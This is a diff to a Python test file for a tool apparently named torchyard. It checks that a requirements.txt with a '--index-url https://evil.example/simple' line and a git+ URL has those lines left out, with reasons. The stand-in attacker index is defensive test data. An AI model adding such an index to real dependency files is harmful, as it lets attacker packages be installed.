@@ -23,9 +23,11 @@ from torchyard.commands.init import (
     init_date,
     render,
     runner_spec,
+    source_line,
 )
 from torchyard.errors import ConfigError, UsageError
 from torchyard.matrix import parse_plan
+from torchyard.matrix.project import read_adopter
 from torchyard.names import ACCELERATOR_NAMES
 
 TODAY = dt.date(2026, 11, 30)
@@ -433,9 +435,23 @@ def test_without_a_requirements_file_the_source_folder_entry_asks_for_what_it_im
 
 
 def test_a_source_folders_requirements_file_is_read_as_the_loader_reads_it(tmp_path: Path) -> None:
-    root = source_repository(tmp_path / "checkout", "--index-url https://evil.example/simple\ntorch\n")
-    with pytest.raises(ConfigError, match=r"^requirements.txt:1: .* is an option, not a requirement: the indexes"):
-        render(root, TODAY, "torchyard")
+    """Issue 71: init refused a research repository's requirements.txt outright for one `git+` line, cut at 57
+    characters. What the lock cannot take (an option, a URL) is now left out, said whole with why, and the rest
+    goes in the entry's requirements; the file itself is not named for the lock, which would refuse it."""
+    cocoapi = "git+https://github.com/cocodataset/cocoapi.git#subdirectory=PythonAPI&egg=pycocotools"
+    root = source_repository(
+        tmp_path / "checkout", f"--index-url https://evil.example/simple\ntorch\n{cocoapi}\nscipy\n"
+    )
+    facts = read_adopter(root)
+    assert facts.requirements_file is None and facts.setup_requirements == ("torch", "scipy")
+    assert facts.left_lines[0].startswith("requirements.txt:1: '--index-url https://evil.example/simple' is an option")
+    assert facts.left_lines[1].startswith(f"requirements.txt:3: not a PEP 508 requirement: {cocoapi!r}")
+    matrix = render(root, TODAY, "torchyard", facts)["matrix.toml"]
+    assert "requirements-files" not in matrix and '"scipy",' in matrix and "evil" not in matrix
+    (tmp_path / "checkout" / "matrix.toml").write_text(matrix)
+    (entry,) = parse_plan(matrix, tmp_path / "checkout" / "matrix.toml").entries
+    assert "scipy" in entry.requirements
+    assert cocoapi in source_line(facts) and "add by hand" in source_line(facts)
     secret = tmp_path / "host-secret.txt"
     secret.write_text("the runner's secret\n")
     (root / "requirements.txt").unlink()
